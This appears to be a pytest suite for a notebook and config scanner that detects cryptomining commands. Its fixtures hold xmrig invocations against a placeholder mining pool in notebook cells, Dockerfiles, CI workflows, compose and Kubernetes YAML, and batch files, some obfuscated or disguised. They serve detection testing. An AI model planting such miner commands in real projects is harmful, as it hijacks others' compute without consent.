"""Every kind of bad input becomes a clear error on that file; nothing raises."""
import json
import os

import pytest

GOOD_CELL = "!./xmrig -o stratum+tcp://pool.example.net:3333 -u w -p x"


def nb(cells, nbformat=4):
    return json.dumps({"nbformat": nbformat, "nbformat_minor": 5, "metadata": {},
                       "cells": [{"cell_type": "code", "source": c, "metadata": {}, "outputs": []} for c in cells]})


@pytest.mark.parametrize("data,needle", [
    (b'{"cells": [', "invalid JSON"),
    (b"[1, 2, 3]", "top level is list"),
    (b'{"metadata": {}}', "no 'cells' list"),
    (b'{"cells": {"a": 1}}', "'cells' is dict"),
    (b'{"cells": [1]}', "cell 0: is int"),
    (b'{"cells": [{"cell_type": "code", "source": 5}]}', "'source' is int"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary file"),
    (bytes(range(128, 256)) * 50, "not UTF-8"),
])
def test_malformed_notebooks_get_a_clear_error(engine, data, needle):
    r = engine.scan_bytes(data, "bad.ipynb")
    assert r.error is not None and needle in r.error
    assert r.verdict == "allow" and r.findings == []


def test_empty_files_are_clean_not_errors(engine):
    for name in ("e.py", "e.sh", "e.ipynb"):
        r = engine.scan_bytes(b"", name)
        assert (r.error is None and r.findings == []) or (name.endswith(".ipynb") and "invalid JSON" in r.error)


def test_nbformat3_worksheets_are_read(engine):
    doc = {"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": GOOD_CELL}]}]}
    r = engine.scan_bytes(json.dumps(doc).encode(), "old.ipynb")
    assert r.error is None and r.verdict == "flag"


def test_list_sources_and_markdown_cells(engine):
    doc = json.loads(nb([]))
    doc["cells"] = [{"cell_type": "markdown", "source": [GOOD_CELL]},
                    {"cell_type": "code", "source": ["x = 1\n", "print(x)\n"]}]
    r = engine.scan_bytes(json.dumps(doc).encode(), "md.ipynb")
    assert r.error is None and r.findings == [], "markdown is prose, not code"


def test_outputs_are_ignored(engine):
    doc = json.loads(nb(["print('hello')"]))
    doc["cells"][0]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": GOOD_CELL}]
    r = engine.scan_bytes(json.dumps(doc).encode(), "out.ipynb")
    assert r.findings == []


def test_missing_broken_and_directory_paths(engine, tmp_path):
    link = tmp_path / "dangling.ipynb"
    link.symlink_to(tmp_path / "nowhere")
    assert engine.scan_path(link).error == "broken symbolic link"
    assert "cannot read" in engine.scan_path(tmp_path / "absent.py").error
    assert engine.scan_path(tmp_path).error == "is a directory"


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads files whatever their mode, so 'permission denied' cannot happen")
def test_unreadable_file(engine, tmp_path):
    p = tmp_path / "locked.py"
    p.write_text("x = 1")
    p.chmod(0)
    assert engine.scan_path(p).error == "permission denied"


def test_kernel_language_decides_how_cells_are_read(engine):
    doc = json.loads(nb(["./xmrig -o stratum+tcp://pool.example.net:3333 -u w -p x"]))
    doc["metadata"] = {"kernelspec": {"language": "bash", "name": "bash"}}
    r = engine.scan_bytes(json.dumps(doc).encode(), "bash.ipynb")
    assert "NBW202" in {f.rule_id for f in r.findings}


def test_other_file_kinds(engine):
    docker = b"FROM python:3.11\nRUN wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz \\\n && tar xf xmrig-6.21.0-linux-x64.tar.gz\nCMD [\"./xmrig\", \"-o\", \"stratum+tcp://pool.example.net:3333\"]\n"
    assert engine.scan_bytes(docker, "Dockerfile").verdict == "flag"
    assert engine.scan_bytes(b"numpy==1.26\npandas\n", "requirements.txt").findings == []
    env = b"name: x\ndependencies:\n  - python=3.11\n  - pip:\n    - torch\n"
    assert engine.scan_bytes(env, "environment.yml").error is None


def test_batch_files(engine):
    bat = b"@echo off\nrem fetch the model\necho Don't close this window\nwget https://example.org/m/xm^rig.tar.gz\nx^mrig.exe -o stratum+tcp://pool.example.net:3333 -u w\n"
    r = engine.scan_bytes(bat, "run.bat")
    assert r.error is None and "NBW201" in {f.rule_id for f in r.findings}
    assert engine.scan_bytes(b"@echo off\nrem xmrig -o stratum+tcp://x:3333\necho done\n", "c.cmd").findings == []


@pytest.mark.parametrize("name,shebang,expect_flag", [
    ("run.py", "#!/bin/sh", True),              # a shell script named .py runs as shell
    ("run.py", "#!/usr/bin/env bash", True),
    ("run.sh", "#!/usr/bin/env python3", False),  # a Python script named .sh: the shell line is a syntax error there
    ("run.py", "", False),
])
def test_shebang_wins_over_suffix(engine, name, shebang, expect_flag):
    body = f"{shebang}\nsudo apt install screen -y\n{GOOD_CELL[1:]}\n".lstrip("\n")
    r = engine.scan_bytes(body.encode(), name)
    assert r.error is None
    assert ("NBW202" in {f.rule_id for f in r.findings}) is expect_flag


_DOCKER_MINER = (b"# build the worker\nFROM debian:12\nRUN apt-get update && apt-get install -y wget\n"
                 b"CMD [\"./xmrig\", \"-o\", \"stratum+tcp://pool.example.net:3333\"]\n")


@pytest.mark.parametrize("name", ["Dockerfile", "Dockerfile.gpu", "Dockerfile-cuda", "Dockerfile_cpu",
                                  "worker.dockerfile", "Containerfile",
                                  "owner__repo__Dockerfile", "build-image"])  # the last two: by content
def test_dockerfiles_by_name_or_first_instruction(engine, name):
    r = engine.scan_bytes(_DOCKER_MINER, name)
    assert r.error is None and r.verdict == "flag", name


def test_a_python_file_starting_with_from_is_not_a_dockerfile():
    from nbwarden.engine.readers import dockerfile
    assert not dockerfile.sniff("from os import path\nRUN = 1\n")
    assert not dockerfile.sniff("FROM debian\n")  # nothing it runs: read as before
    assert dockerfile.sniff("# syntax=docker/dockerfile:1\nARG V=1\nFROM debian:$V\nRUN true\n")


_WORKFLOW = b"""name: box
on: workflow_dispatch
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: Tunnel
        run: |
          echo "building"
          ./xmrig -o stratum+tcp://pool.example.net:3333 -u w
"""


def test_ci_workflow_run_blocks_are_shell(engine):
    r = engine.scan_bytes(_WORKFLOW, "ci.yml")
    assert r.error is None and "NBW202" in {f.rule_id for f in r.findings}
    ev = [e for f in r.findings if f.rule_id == "NBW202" for e in f.evidence]
    assert any(e.line == 11 for e in ev), [e.line for e in ev]


@pytest.mark.parametrize("doc", [
    b"stages: [run]\njob:\n  script:\n    - echo start\n    - ./xmrig -o stratum+tcp://pool.example.net:3333\n",  # GitLab
    b"services:\n  w:\n    image: debian\n    command: [\"./xmrig\", \"-o\", \"stratum+tcp://pool.example.net:3333\"]\n",  # compose argv
    b"version: 2.1\njobs:\n  b:\n    steps:\n      - run:\n          command: ./xmrig -o stratum+tcp://pool.example.net:3333\n",  # CircleCI
])
def test_other_ci_and_compose_commands_are_shell(engine, doc):
    assert "NBW202" in {f.rule_id for f in engine.scan_bytes(doc, "x.yaml").findings}


def test_kubernetes_command_and_args_are_one_process():
    """A container's command and args are one argv; args alone are the options its image's
    entrypoint gets (read as a command line of options)."""
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.readers import read_units
    doc = (b"spec:\n  containers:\n    - name: a\n      command: [\"/app/w\"]\n      args: [\"-o\", \"h:1\", \"-k\"]\n"
           b"    - name: b\n      args:\n        - --x=1\n        - --y\n")
    col = Collector()
    for u in read_units(doc, "deploy.yaml"):
        col.run(u)
    assert [f.value for f in col.facts if f.kind == "command"] == ["w -o h:1 -k", "--x=1 --y"]


@pytest.mark.parametrize("doc", [
    b"jobs:\n  t:\n    steps:\n      - run: pip install -e . && pytest -q\n",
    b"model:\n  name: resnet\n  command_help: xmrig is a miner\n",  # not a command key
    b"a: &a [1, 2]\nb: &b [*a, *a, *a]\nc: &c [*b, *b, *b]\nd: [*c, *c, *c]\n",  # anchors: visited once
    b"key: [unclosed\n",  # not YAML: text only, no error
])
def test_yaml_without_disallowed_commands(engine, doc):
    r = engine.scan_bytes(doc, "conf.yml")
    assert r.error is None and r.findings == []


def test_a_json_document_that_is_not_a_notebook_is_read_as_data(engine):
    """A .json that is not a notebook (a deployment template, a task definition) is read as
    YAML is: its strings, and the commands under known keys; a broken one is still an error."""
    doc = {"parameters": {"pool": {"defaultValue": "pool.example.net:3333"}},
           "containers": [{"image": "x/y", "command": ["./w", "-o", "stratum+tcp://pool.example.net:3333", "-u", "w"]}]}
    r = engine.scan_bytes(json.dumps(doc).encode(), "azuredeploy.json")
    assert r.error is None and r.verdict == "flag"
    assert any(e.snippet.startswith("./w") or "stratum" in e.snippet for f in r.findings for e in f.evidence)
    r = engine.scan_bytes(b'{"name": "app", "scripts": {"test": "jest"}}', "package.json")
    assert r.error is None and r.findings == []
    broken = engine.scan_bytes(b'{"a": ', "broken.json").error
    assert broken.startswith("invalid JSON") and "notebook" not in broken
    assert engine.scan_bytes(b'{"a": ', "broken.ipynb").error.startswith("not a notebook: invalid JSON")
